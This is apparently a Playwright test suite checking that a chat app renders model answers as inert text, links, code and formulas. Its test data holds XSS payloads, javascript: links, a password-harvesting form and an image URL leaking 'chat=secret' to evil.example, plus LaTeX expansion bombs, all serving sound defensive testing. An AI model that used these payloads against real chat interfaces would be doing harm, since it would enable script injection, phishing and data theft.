"""Tests that a model's output is shown as text, links, code and formulas: nothing runs, nothing is
fetched.
"""

from __future__ import annotations

from itertools import pairwise

import pytest
from playwright.sync_api import expect

from tests.e2e.browsing import Windows
from tests.e2e.chat import Chat
from tests.e2e.links import share

HACKED = "window.hacked = 1"
TEXTS = {
    "script": f"<script>{HACKED}</script>",
    "image": f'<img src=x onerror="{HACKED}">',
    "svg": f'<svg onload="{HACKED}"><a href="javascript:{HACKED}"><text>x</text></a></svg>',
    "frame": f'<iframe srcdoc="<script>parent.{HACKED}</script>"></iframe>',
    "style": "<style>body{background:url(https://evil.example/x)}</style>",
    "form": '<form action="https://evil.example"><input name=password><button>Log in</button></form>',
}


def answer(chat: Chat, text: str) -> Chat:
    return chat.ask(f"echo:{text}").wait_for_end()


def is_hacked(chat: Chat) -> bool:
    return bool(chat.page.evaluate("'hacked' in window"))


@pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS)
def test_html_is_text(chat: Chat, text: str) -> None:
    answer(chat, text)
    expect(chat.answer).to_have_text(text)
    assert chat.answer.locator("script, img, svg, iframe, style, form").count() == 0
    assert not is_hacked(chat)


def test_links_lead_to_the_web_and_nowhere_else(chat: Chat) -> None:
    bad = "[a](javascript:window.hacked=1) [b](data:text/html,x) [c](/admin/)"
    answer(chat, f"{bad} [d](https://example.org/x)")
    link = chat.answer.get_by_role("link")
    expect(link).to_have_count(1)
    expect(link).to_have_attribute("href", "https://example.org/x")
    expect(link).to_have_attribute("rel", "noopener nofollow noreferrer")
    expect(chat.answer).to_have_text("a b c d (example.org)")
    assert not is_hacked(chat)


def test_a_link_shows_where_it_really_goes(chat: Chat) -> None:
    answer(chat, "[https://bank.example](https://evil.example/)")
    expect(chat.answer).to_have_text("https://bank.example (evil.example)")


# Whether the letters of the host stand from left to right, as they are read.
IN_ORDER = """(host) => {
  const letter = document.createRange(), lefts = [];
  for (let at = 1; at < host.firstChild.length - 1; at += 1) {
    letter.setStart(host.firstChild, at);
    letter.setEnd(host.firstChild, at + 1);
    lefts.push(letter.getBoundingClientRect().left);
  }
  return lefts.every((left, at) => !at || left > lefts[at - 1]);
}"""


@pytest.mark.parametrize("words", ["my bank\u202e", "\u202emy bank"])
def test_words_of_a_link_do_not_turn_its_host(chat: Chat, windows: Windows, words: str) -> None:
    answer(chat, f"See [{words}](https://moc.knab.example/) for more")
    for page in (chat.page, windows.page(None, share(chat))):
        host = page.locator(".message.assistant .host")
        expect(host).to_have_text("(moc.knab.example)")
        assert host.evaluate(IN_ORDER)


def test_a_remote_image_is_a_link(chat: Chat) -> None:
    answer(chat, "![a cat](https://evil.example/cat.png?chat=secret)")
    expect(chat.answer.get_by_role("link", name="Image: a cat")).to_be_visible()
    assert chat.answer.locator("img").count() == 0


def test_entities_are_letters(chat: Chat) -> None:
    answer(chat, "&lt;script&gt; &#60;b&#62; &amp;")
    expect(chat.answer).to_have_text("<script> <b> &")
    assert chat.answer.locator("script, b").count() == 0


def test_code_is_coloured_and_can_be_copied(chat: Chat) -> None:
    answer(chat, "```html\n<script>window.hacked = 1</script>\n```")
    expect(chat.answer.locator("pre code")).to_have_text("<script>window.hacked = 1</script>\n")
    expect(chat.answer.locator("pre code span").first).to_be_visible()
    chat.answer.get_by_role("button", name="Copy").click()
    expect(chat.answer.get_by_role("button", name="Copied")).to_be_visible()
    chat.box.press("ControlOrMeta+v")
    expect(chat.box).to_have_value("<script>window.hacked = 1</script>")
    assert not is_hacked(chat)


def test_formulas_are_set(chat: Chat) -> None:
    answer(chat, r"Energy is $E = mc^2$, and it costs $5 or $6. \(\href{javascript:window.hacked=1}{x}\)")
    expect(chat.answer.locator("math").first).to_be_visible()
    expect(chat.answer).to_contain_text("costs $5 or $6")
    assert chat.answer.locator("math a, math [href]").count() == 0
    assert not is_hacked(chat)


BOMBS = {
    "doubling": "".join(rf"\def\{a}{{\{b}\{b}}}" for a, b in pairwise("abcdefgh")) + r"\def\h{xx}\a\a",
    "endless": r"\def\x{\x\x}\x",
}


@pytest.mark.parametrize("bomb", BOMBS.values(), ids=BOMBS)
def test_formulas_that_would_not_end_stay_source(chat: Chat, bomb: str) -> None:
    answer(chat, f"Look: $$ {bomb} $$ and $y$.")
    expect(chat.answer.locator("math")).to_have_count(1)
    expect(chat.answer.locator("code:not(.math)")).to_have_text(bomb)
    assert chat.answer.locator("img, a").count() == 0
    assert not is_hacked(chat)


def test_formulas_link_and_load_nothing(chat: Chat) -> None:
    outside = r"\includegraphics{https://evil.example/x} \htmlData{a=b}{x} \url{javascript:window.hacked=1}"
    answer(chat, f"${outside}$, $y$")
    expect(chat.answer.locator("math")).to_have_count(2)
    assert chat.answer.locator("img, a, [href], [src], [data-a]").count() == 0
    assert not is_hacked(chat)


def test_a_formula_cannot_cover_the_page(chat: Chat) -> None:
    answer(chat, r"$\rule{9999em}{9999em}$ and $\kern{-9999em}x$")
    expect(chat.answer.locator("math")).to_have_count(2)
    assert chat.answer.bounding_box()["width"] <= 1280
    expect(chat.box).to_be_in_viewport()


def test_questions_are_shown_as_plain_text(chat: Chat) -> None:
    asked = "**bold** <img src=x onerror=window.hacked=1> [x](javascript:alert(1))"
    chat.ask(asked).wait_for_end()
    expect(chat.questions).to_have_text(asked)
    expect(chat.sidebar.get_by_role("link")).to_contain_text("**bold** <img")
    assert not is_hacked(chat)


def test_hostile_answers_are_harmless_on_a_shared_page(chat: Chat, windows: Windows) -> None:
    for text in (*TEXTS.values(), "![a cat](https://evil.example/cat.png)", "[a](javascript:alert(1))"):
        answer(chat, text)
    reader = windows.page(None, share(chat))
    expect(reader.locator(".message")).to_have_count(2 * (len(TEXTS) + 2))
    assert reader.locator(".message :is(script, img, svg, iframe, style, form)").count() == 0
    assert reader.locator("[href^='javascript:']").count() == 0
    assert not reader.evaluate("'hacked' in window")


def test_a_very_long_answer_keeps_the_page_usable(chat: Chat) -> None:
    """The longest answer allowed, in one piece: the page stays usable."""
    answer(chat, "word " * 4000)
    expect(chat.answers.last).to_contain_text("it reached the longest length allowed")
    assert len(chat.text().split()) >= 500
